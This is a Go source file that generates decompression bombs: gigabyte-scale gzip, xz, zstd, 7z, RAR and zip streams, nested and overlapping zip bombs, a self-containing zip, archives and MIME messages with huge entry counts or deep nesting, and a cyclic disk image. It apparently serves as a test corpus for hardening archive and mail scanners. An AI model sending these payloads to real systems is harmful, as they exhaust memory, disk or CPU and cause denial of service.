package bomb

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"go/build"
	"hash/crc32"
	"os"
	"path/filepath"
	"strings"
	"sync"
)

// deflated is n megabytes of zeros as a stream of deflate: one of sixteen megabytes, that
// ends at an octet, over and over, and the block that is the last.
func deflated(n int) []byte {
	return append(bytes.Repeat(sixteen(), n/16), 3, 0)
}

var sixteen = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	w := must(flate.NewWriter(&b, flate.BestCompression))
	must(w.Write(make([]byte, 16<<20)))
	if err := w.Flush(); err != nil {
		panic(err)
	}
	return b.Bytes()
})

// gzipped puts the head and an end with a wrong sum round a stream: who sees the sum has
// unpacked it.
func gzipped(stream []byte) []byte {
	return append(append([]byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"), stream...), make([]byte, 8)...)
}

func pack(b []byte) []byte {
	var out bytes.Buffer
	w := must(flate.NewWriter(&out, flate.BestSpeed))
	must(w.Write(b))
	_ = w.Close()
	return out.Bytes()
}

func gzipOf(b []byte) []byte {
	out := append([]byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"), pack(b)...)
	return le32(out, int(crc32.ChecksumIEEE(b)), len(b))
}

// entry is a packed file of a zip, with the sizes that it is told.
type entry struct {
	name   string
	packed []byte
	size   uint64
}

func zipOf(entries ...entry) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, e := range entries {
		f := must(w.CreateRaw(&zip.FileHeader{Name: e.name, Method: zip.Deflate, CompressedSize64: uint64(len(e.packed)), UncompressedSize64: e.size}))
		must(f.Write(e.packed))
	}
	_ = w.Close()
	return b.Bytes()
}

// plainZip packs files honestly.
func plainZip(files ...[2]string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, f := range files {
		must(must(w.Create(f[0])).Write([]byte(f[1])))
	}
	_ = w.Close()
	return b.Bytes()
}

// zstdZeros is a frame of n megabytes: blocks of 128 KB that are one octet repeated
// (RFC 8878, 3.1.1.2).
func zstdZeros(n int, window byte) []byte {
	b := []byte{0x28, 0xB5, 0x2F, 0xFD, 0, window}
	block := func(last int) []byte {
		h := 128<<10<<3 | 1<<1 | last
		return []byte{byte(h), byte(h >> 8), byte(h >> 16), 0}
	}
	return append(append(b, bytes.Repeat(block(0), n*8-1)...), block(1)...)
}

// chunk is the packed megabyte in the xz stream: a chunk of LZMA2 that begins anew.
func chunk() []byte {
	b := xzZeros[12:]
	b = b[(int(b[0])+1)*4:]
	return b[:6+int(b[3])<<8+int(b[4])+1]
}

// sevenZip is an archive of one file of size octets in one folder of the coder given.
func sevenZip(coder string, packed []byte, size uint64) []byte {
	number := func(b []byte, v uint64) []byte { return binary.LittleEndian.AppendUint64(append(b, 0xFF), v) }
	h := number([]byte{1, 4, 6, 0, 1, 9}, uint64(len(packed)))
	h = append(h, "\x00\x07\x0b\x01\x00\x01"+coder+"\x0c"...)
	h = append(number(h, size), "\x00\x00\x05\x01\x11\x05\x00a\x00\x00\x00\x00\x00"...)
	start := binary.LittleEndian.AppendUint64(nil, uint64(len(packed)))
	start = le32(binary.LittleEndian.AppendUint64(start, uint64(len(h))), int(crc32.ChecksumIEEE(h)))
	b := le32([]byte("7z\xbc\xaf\x27\x1c\x00\x04"), int(crc32.ChecksumIEEE(start)))
	return append(append(append(b, start...), packed...), h...)
}

// rar is an archive of RAR 5 with one file that claims size octets, packed with a
// dictionary of 128 KB doubled so often.
func rar(size uint64, doubled int, packed []byte) []byte {
	v := func(b []byte, n ...uint64) []byte {
		for _, x := range n {
			b = binary.AppendUvarint(b, x)
		}
		return b
	}
	block := func(h []byte) []byte {
		body := append(v(nil, uint64(len(h))), h...)
		return append(le32(nil, int(crc32.ChecksumIEEE(body))), body...)
	}
	b := append([]byte("Rar!\x1A\x07\x01\x00"), block(v(nil, 1, 0, 0))...)
	h := v(nil, 2, 2, uint64(len(packed)), 0, size, 0, uint64(doubled)<<10|3<<7, 0, 1)
	b = append(append(b, block(append(h, 'a'))...), packed...)
	return append(b, block(v(nil, 5, 0, 0))...)
}

// overlapping lets the n entries of a directory share one kernel of zeros.
func overlapping(n int) []byte {
	kernel := deflated(16)
	const size = 16 << 20
	name := func(i int) string { return fmt.Sprintf("%07d", i) }
	b := append([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00\x00\x00\x00\x00"), 0, 0, 0, 0)
	b = append(le16(le32(b, len(kernel), size), 7, 0), name(0)...)
	b = append(b, kernel...)
	start := len(b)
	for i := range n {
		b = append(b, "PK\x01\x02\x14\x00\x14\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00"...)
		b = le16(le32(b, len(kernel), size), 7, 0, 0, 0, 0)
		b = append(le32(b, 0, 0), name(i)...)
	}
	end := le16([]byte("PK\x05\x06\x00\x00\x00\x00"), n, n)
	return append(append(b, le32(end, len(b)-start, start)...), 0, 0)
}

// quoted is overlapping with a header of its own for each entry, each of which quotes
// the headers behind it in a stored block.
func quoted(n int) []byte {
	kernel := deflated(16)
	type at struct{ offset, packed, size int }
	size, packed := 16<<20, len(kernel)
	local := func(i, packed, size int) []byte {
		b := append([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00\x00\x00\x00\x00"), 0, 0, 0, 0)
		return append(le16(le32(b, packed, size), 7, 0), fmt.Sprintf("%07d", i)...)
	}
	parts, list := [][]byte{kernel}, make([]at, n)
	for i := n - 1; i >= 0; i-- {
		h := local(i, packed, size)
		parts = append(parts, h)
		list[i] = at{0, packed, size}
		if i > 0 { // the quote of this header, which belongs to the one in front
			q := le16([]byte{0}, len(h), ^len(h)&0xffff)
			parts = append(parts, q)
			packed, size = packed+len(h)+len(q), size+len(h)
		}
	}
	var b []byte
	for i, k := len(parts)-1, 0; i >= 0; i-- {
		if bytes.HasPrefix(parts[i], []byte("PK\x03\x04")) {
			list[k].offset = len(b)
			k++
		}
		b = append(b, parts[i]...)
	}
	start := len(b)
	for i, e := range list {
		b = append(b, "PK\x01\x02\x14\x00\x14\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00"...)
		b = le16(le32(b, e.packed, e.size), 7, 0, 0, 0, 0)
		b = append(le32(b, 0, e.offset), fmt.Sprintf("%07d", i)...)
	}
	end := le16([]byte("PK\x05\x06\x00\x00\x00\x00"), n, n)
	return append(append(b, le32(end, len(b)-start, start)...), 0, 0)
}

// quine is the zip that holds itself, out of the standard library's tests, where they
// are installed.
func quine() []byte {
	text, err := os.ReadFile(filepath.Join(build.Default.GOROOT, "src", "archive", "zip", "reader_test.go"))
	if err != nil {
		return nil
	}
	_, s, _ := strings.Cut(string(text), "func rZipBytes()")
	parts := strings.SplitN(s, "`", 3)
	if len(parts) < 3 {
		return nil
	}
	var out []byte
	for line := range strings.Lines(parts[1]) {
		_, rest, _ := strings.Cut(strings.TrimSpace(line), " ")
		b, err := hex.DecodeString(strings.ReplaceAll(rest, " ", ""))
		if err != nil {
			return nil
		}
		out = append(out, b...)
	}
	return out
}

func ratios() []Case {
	const gigabyte = 1024 // in megabytes
	return []Case{
		{Name: "gzip of 1 GB", File: "a.gz", Make: func() []byte { return gzipped(deflated(gigabyte)) }},
		{Name: "bzip2 of 1 GB", File: "a.bz2", Make: func() []byte { return bytes.Repeat(bzip2Zeros, 24) }},
		{Name: "xz of 1 GB", File: "a.xz", Make: func() []byte { return bytes.Repeat(xzZeros, gigabyte) }},
		{Name: "zstd of 1 GB", File: "a.zst", Make: func() []byte { return zstdZeros(gigabyte, 0x38) }},
		{Name: "zip of 1 GB", File: "a.zip", Make: func() []byte { return zipOf(entry{"a", deflated(gigabyte), gigabyte << 20}) }},
		{Name: "zip of 100 files of 64 MB", File: "a.zip", Make: func() []byte {
			var e []entry
			for i := range 100 {
				e = append(e, entry{fmt.Sprint(i), append(flushed([]byte(fmt.Sprint(i))), deflated(64)...), 64 << 20})
			}
			return zipOf(e...)
		}},
		{Name: "7z of 1 GB", File: "a.7z", Make: func() []byte {
			return sevenZip("\x21\x21\x01\x18", append(bytes.Repeat(chunk(), gigabyte), 0), gigabyte<<20)
		}},
		{Name: "tar in gzip of 1 GB", File: "a.tgz", Make: func() []byte {
			h := tarOf(1, 0)[:512]
			copy(h[124:], "10000000000\x00")
			return gzipped(append(flushed(sum(h)), deflated(gigabyte)...))
		}},
		{Name: "ten gzips of 1 GB in each other", File: "a.gz", Make: func() []byte { return nest(9, gzipped(deflated(gigabyte)), gzipOf) }},
		{Name: "zips in zips, 16 wide, 5 deep, 64 MB each", File: "42.zip", Make: func() []byte {
			b := zipOf(entry{"0.dll", deflated(64), 64 << 20})
			return nest(5, b, func(b []byte) []byte {
				var e []entry
				for i := range 16 {
					e = append(e, entry{fmt.Sprint("lib", i, ".zip"), pack(b), uint64(len(b))})
				}
				return zipOf(e...)
			})
		}},
		{Name: "zip that holds itself", File: "r.zip", Make: quine, Ends: true},
		{Name: "60,000 entries over one kernel of 16 MB", File: "a.zip", Make: func() []byte { return overlapping(60_000) }},
		{Name: "2,000 entries that quote each other, 16 MB", File: "a.zip", Make: func() []byte { return quoted(2000) }},
		{Name: "lzma that claims 4 GB of dictionary", File: "a.lzma", Ends: true, Make: func() []byte {
			return append([]byte("\x5d\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"), make([]byte, 4<<20)...)
		}},
		{Name: "7z that claims 4 GB of dictionary", File: "a.7z", Ends: true, Make: func() []byte {
			return sevenZip("\x23\x03\x01\x01\x05\x5d\xff\xff\xff\xff", make([]byte, 200), 1<<32)
		}},
		{Name: "zstd that claims 3.75 TB of window", File: "a.zst", Ends: true, Make: func() []byte { return zstdZeros(64, 0xFF) }},
		{Name: "rar that claims 4 GB of dictionary and 1 TB", File: "a.rar", Ends: true, Make: func() []byte { return rar(1<<40, 15, make([]byte, 4096)) }},
	}
}

// flushed is a stream that isn't at its end.
func flushed(b []byte) []byte {
	var out bytes.Buffer
	w := must(flate.NewWriter(&out, flate.BestSpeed))
	must(w.Write(b))
	_ = w.Flush()
	return out.Bytes()
}

// sum writes the check of a tar's header anew.
func sum(h []byte) []byte {
	copy(h[148:], "        ")
	n := 0
	for _, c := range h {
		n += int(c)
	}
	copy(h[148:], fmt.Sprintf("%06o\x00 ", n))
	return h
}

func tarOf(n, size int) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for i := range n {
		_ = w.WriteHeader(&tar.Header{Name: fmt.Sprint(i), Size: int64(size)})
		must(w.Write(make([]byte, size)))
	}
	_ = w.Close()
	return b.Bytes()
}

func tarWith(name string, body []byte) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	_ = w.WriteHeader(&tar.Header{Name: name, Size: int64(len(body))})
	must(w.Write(body))
	_ = w.Close()
	return b.Bytes()
}

// cab is a cabinet of n stored files of one octet ([MS-CAB]).
func cab(n int, content []byte) []byte {
	var list []byte
	for i := range n {
		list = le32(list, len(content)/n, i*(len(content)/n))
		list = append(list, 0, 0, 0, 0, 0, 0, 0x20, 0)
		list = append(append(list, fmt.Sprint(i, ".cab")...), 0)
	}
	var data []byte
	blocks := 0
	for c := content; ; blocks++ {
		k := min(len(c), 32<<10)
		if k == 0 {
			break
		}
		data = append(le16(append(data, 0, 0, 0, 0), k, k), c[:k]...)
		c = c[k:]
	}
	h := make([]byte, 44)
	copy(h, "MSCF")
	le := binary.LittleEndian
	le.PutUint32(h[8:], uint32(len(h)+len(list)+len(data)))
	le.PutUint32(h[16:], uint32(len(h)))
	h[24], h[25], h[26] = 3, 1, 1
	le.PutUint16(h[28:], uint16(n))
	le.PutUint32(h[36:], uint32(len(h)+len(list)))
	le.PutUint16(h[40:], uint16(blocks))
	return append(append(h, list...), data...)
}

// tnef is a winmail.dat of n attachments ([MS-OXTNEF]).
func tnef(n int) []byte {
	b := []byte("\x78\x9F\x3E\x22\x01\x00")
	attribute := func(level byte, id int, data string) {
		s := 0
		for _, c := range []byte(data) {
			s += int(c)
		}
		b = append(le32(append(b, level), id, len(data)), data...)
		b = le16(b, s)
	}
	attribute(1, 0x00089006, "\x00\x00\x01\x00")
	for i := range n {
		attribute(2, 0x00069002, "\x01\x00"+strings.Repeat("\x00", 12))
		attribute(2, 0x00018010, fmt.Sprint(i, "\x00"))
		attribute(2, 0x0006800F, fmt.Sprint(i))
	}
	return b
}

func many() []Case {
	return []Case{
		{Name: "zip of 100,000 files", File: "a.zip", Make: func() []byte {
			e := make([]entry, 100_000)
			for i := range e {
				e[i] = entry{fmt.Sprint(i), []byte{3, 0}, 0}
			}
			return zipOf(e...)
		}},
		{Name: "tar of 100,000 files", File: "a.tar", Make: func() []byte { return tarOf(100_000, 0) }},
		{Name: "cab of 65,535 files", File: "a.cab", Make: func() []byte { return cab(65_535, make([]byte, 65_535)) }},
		{Name: "tnef of 100,000 files", File: "winmail.dat", Make: func() []byte { return tnef(100_000) }},
		{Name: "gzip of 200,000 members", File: "a.gz", Make: func() []byte { return bytes.Repeat(gzipOf(nil), 200_000) }, Ends: true},
		{Name: "100,000 parts of a message", Make: func() []byte {
			return []byte(head + "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + numbered(100_000, "--b\r\nContent-Type: application/zip; name=a.zip\r\n\r\nPK\x03\x04%d\r\n") + "--b--\r\n")
		}},
		{Name: "a message of 100,000 parts, attached in a zip", File: "a.zip", Make: func() []byte {
			return plainZip([2]string{"a.eml", head + "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + numbered(100_000, "--b\r\nContent-Type: application/zip; name=a.zip\r\n\r\nPK\x03\x04%d\r\n") + "--b--\r\n"})
		}},
	}
}

func deep() []Case {
	inZip := func(b []byte) []byte { return plainZip([2]string{"a.zip", string(b)}) }
	return []Case{
		{Name: "1,000 zips in each other", File: "a.zip", Make: func() []byte { return nest(1000, []byte("the end"), inZip) }},
		{Name: "500 tars in each other", File: "a.tar", Make: func() []byte {
			return nest(500, []byte("the end"), func(b []byte) []byte { return tarWith("a.tar", b) })
		}},
		{Name: "500 cabinets in each other", File: "a.cab", Make: func() []byte { return nest(500, []byte("the end"), func(b []byte) []byte { return cab(1, b) }) }},
		{Name: "1,000 messages in each other", Make: func() []byte {
			return []byte(strings.Repeat("From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n", 1000) + string(message("a.zip", inZip([]byte("the end")))))
		}},
		{Name: "20 messages in each other, each in base64", File: "a.eml", Make: func() []byte {
			return nest(20, []byte("Subject: the end\r\n\r\nthe end\r\n"), func(b []byte) []byte { return message("a.eml", b) })
		}},
		{Name: "10,000 multiparts in each other", Make: func() []byte {
			var b strings.Builder
			b.WriteString(head)
			for i := range 10_000 {
				fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", i, i)
			}
			b.WriteString("Content-Type: application/zip; name=a.zip\r\n\r\nPK\x03\x04\r\n")
			return []byte(b.String())
		}, Ends: true},
		{Name: "disk image whose folders hold each other", File: "a.iso", Make: circle, Ends: true},
	}
}

// circle is an image whose root holds a hundred folders, each of which is the root
// (ECMA-119).
func circle() []byte {
	b := make([]byte, 20*2048)
	record := func(at int, name string) []byte {
		r := make([]byte, 34)
		r[0], r[25], r[32] = 34, 2, 1
		binary.LittleEndian.PutUint32(r[2:], uint32(at))
		binary.BigEndian.PutUint32(r[6:], uint32(at))
		binary.LittleEndian.PutUint32(r[10:], 2048)
		binary.BigEndian.PutUint32(r[14:], 2048)
		r[33] = name[0]
		return r
	}
	b[16*2048] = 1
	copy(b[16*2048+1:], "CD001\x01")
	copy(b[16*2048+156:], record(18, "\x00"))
	b[17*2048] = 0xFF
	copy(b[17*2048+1:], "CD001\x01")
	for i := range 55 {
		copy(b[18*2048+i*34:], record(18+i%2, string(rune('A'+i%26))))
		copy(b[19*2048+i*34:], record(18, string(rune('A'+i%26))))
	}
	return b
}
